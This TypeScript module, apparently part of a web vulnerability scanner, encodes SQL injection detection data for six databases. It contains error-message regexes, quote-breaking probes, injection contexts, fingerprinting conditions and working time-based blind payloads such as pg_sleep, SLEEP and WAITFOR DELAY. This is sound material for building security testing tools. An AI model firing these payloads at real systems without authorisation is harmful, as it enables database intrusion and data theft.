/** SQL injection knowledge as data: error signatures, boolean contexts, fingerprints and delay payloads per DBMS. */

export type Dbms = 'SQLite' | 'PostgreSQL' | 'MySQL' | 'MariaDB' | 'Microsoft SQL Server' | 'Oracle';

export interface ErrorSignature {
  readonly dbms: Dbms;
  readonly re: RegExp;
}

/** Error messages database drivers put into responses when a query does not parse. Most specific first. */
export const SQL_ERROR_SIGNATURES: readonly ErrorSignature[] = [
  { dbms: 'MariaDB', re: /check the manual that (?:corresponds to|fits) your MariaDB server version/i },
  { dbms: 'MySQL', re: /You have an error in your SQL syntax|check the manual that corresponds to your MySQL server version|\bER_PARSE_ERROR\b|\bER_BAD_FIELD_ERROR\b|com\.mysql\.jdbc|MySqlException|Warning:\s+mysqli?_/i },
  { dbms: 'PostgreSQL', re: /syntax error at or near "|unterminated quoted (?:string|identifier) at or near|invalid input syntax for (?:type )?(?:integer|numeric|uuid)|PG::SyntaxError|org\.postgresql\.util\.PSQLException|psycopg2?\.(?:errors\.)?\w*Error|PostgreSQL query failed|ERROR:\s+syntax error at/i },
  { dbms: 'SQLite', re: /SQLITE_ERROR|SqliteError|sqlite3\.OperationalError|SQLite(?:3)?::|unrecognized token: "|near "[^"\n]{0,60}": syntax error|\bincomplete input\b.*sqlite|sqlite.*\bincomplete input\b|unterminated string literal.*sqlite/i },
  { dbms: 'Microsoft SQL Server', re: /Unclosed quotation mark after the character string|Incorrect syntax near|Microsoft OLE DB Provider for SQL Server|System\.Data\.SqlClient|\[SQL Server\]|ODBC SQL Server Driver|SQLServerException|Msg \d+, Level \d+, State \d+/i },
  { dbms: 'Oracle', re: /\bORA-0(?:0933|0936|1756|1747|0921|1722)\b|\bORA-\d{5}:|quoted string not properly terminated|oracle\.jdbc|PLS-\d{5}/i },
];

/** The DBMS whose error signature appears in a text, and the matched excerpt. */
export function findSqlError(body: string): { dbms: Dbms; match: string } | undefined {
  const text = searchableText(body);
  for (const s of SQL_ERROR_SIGNATURES) {
    const m = s.re.exec(text);
    if (m) {
      // A generic MySQL-style message from MariaDB names MariaDB in the same text.
      const dbms = s.dbms === 'MySQL' && /MariaDB/i.test(text) ? 'MariaDB' : s.dbms;
      return { dbms, match: m[0] };
    }
  }
  return undefined;
}

/** Payloads that break the syntax of string and numeric contexts at once. */
export const ERROR_PROBES: readonly string[] = [`'")`, `"'(`];

/** Where the value sits in the query: what closes it before our condition and what re-opens after. */
export interface SqlContext {
  readonly name: string;
  readonly prefix: string;
  readonly suffix: string;
  /** Numeric contexts only make sense for numeric originals. */
  readonly numeric?: boolean;
}

export const SQL_CONTEXTS: readonly SqlContext[] = [
  { name: 'numeric', prefix: '', suffix: '', numeric: true },
  { name: "single-quoted string", prefix: "'", suffix: " AND 'q'='q" },
  { name: 'single-quoted string, comment', prefix: "'", suffix: '-- -' },
  { name: 'double-quoted string', prefix: '"', suffix: ' AND "q"="q' },
  { name: 'parenthesised single-quoted string', prefix: "')", suffix: " AND ('q'='q" },
  { name: 'numeric, comment', prefix: '', suffix: '-- -', numeric: true },
  { name: 'parenthesised numeric', prefix: ')', suffix: ' AND (1=1', numeric: true },
];

/** The payload text for a condition in a context, appended to the original value. */
export function conditionPayload(original: string, ctx: SqlContext, condition: string): string {
  return `${original}${ctx.prefix} AND ${condition}${ctx.suffix}`;
}

/** Conditions true only on one DBMS (an unknown function errors, which reads as false). Tried in order. */
export const DBMS_FINGERPRINTS: readonly { readonly dbms: Dbms; readonly condition: string }[] = [
  { dbms: 'SQLite', condition: 'sqlite_version()=sqlite_version()' },
  { dbms: 'PostgreSQL', condition: 'pg_backend_pid()=pg_backend_pid()' },
  { dbms: 'MariaDB', condition: "@@version LIKE '%MariaDB%'" },
  { dbms: 'MySQL', condition: 'CONNECTION_ID()=CONNECTION_ID()' },
  { dbms: 'Microsoft SQL Server', condition: '@@PACK_RECEIVED=@@PACK_RECEIVED' },
  { dbms: 'Oracle', condition: "RAWTOHEX('AB')=RAWTOHEX('AB')" },
];

/** A delay expression for a DBMS, usable as a condition (`AND <expr>`), or as a stacked statement. */
export interface DelayPayload {
  readonly dbms: Dbms;
  /** The payload for a delay of `s` seconds in a context (heavy payloads: `s` is a work amount, 0 for none). */
  build(original: string, ctx: SqlContext, s: number): string;
  /** No sleep function: the delay comes from work whose cost is calibrated against the target first. */
  readonly heavy?: boolean;
}

const cond = (dbms: Dbms, expr: (s: number) => string): DelayPayload => ({
  dbms,
  build: (original, ctx, s) => conditionPayload(original, ctx, expr(s)),
});

/** MySQL and MariaDB share the payload: a derived table that sleeps once, however many rows are scanned. */
export const DELAY_PAYLOADS: readonly DelayPayload[] = [
  cond('PostgreSQL', (s) => `1=(SELECT 1 FROM pg_sleep(${s}))`),
  cond('MySQL', (s) => `1=(SELECT 1 FROM (SELECT SLEEP(${s}))rmp)`),
  {
    dbms: 'Microsoft SQL Server',
    build: (original, ctx, s) => `${original}${ctx.prefix};WAITFOR DELAY '0:0:${s}'-- -`,
  },
  cond('Oracle', (s) => `1=DBMS_PIPE.RECEIVE_MESSAGE('rmp',${s})`),
  // SQLite has no sleep: count `n` rows with a recursive CTE. CPU work that streams (no memory grows
  // with `n`, unlike a large RANDOMBLOB), so it is gentle on the target whatever its speed.
  { ...cond('SQLite', (n) => `1=(WITH RECURSIVE rmp(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM rmp WHERE x<${Math.max(1, Math.round(n))}) SELECT 1 FROM rmp WHERE x=${Math.max(1, Math.round(n))})`), heavy: true },
];

/** Work amount (rows) of the first heavy-query probe, and the largest one ever sent. */
export const HEAVY_CALIBRATION = 1_000_000;
export const HEAVY_MAX = 200_000_000;

/** The contexts worth trying for an original value, most likely first. */
export function contextsFor(original: string): SqlContext[] {
  const numeric = /^-?\d+(\.\d+)?$/.test(original);
  const all = [...SQL_CONTEXTS];
  return numeric ? all : all.filter((c) => !c.numeric);
}

/** The body plus, when it is JSON, its string values unescaped (error messages are often JSON strings). */
export function searchableText(body: string): string {
  const t = body.trimStart();
  if (!t.startsWith('{') && !t.startsWith('[')) return body;
  try {
    const strings: string[] = [];
    const walk = (v: unknown): void => {
      if (typeof v === 'string') strings.push(v);
      else if (Array.isArray(v)) v.forEach(walk);
      else if (v && typeof v === 'object') Object.values(v).forEach(walk);
    };
    walk(JSON.parse(t));
    return `${body}\n${strings.join('\n')}`;
  } catch {
    return body;
  }
}
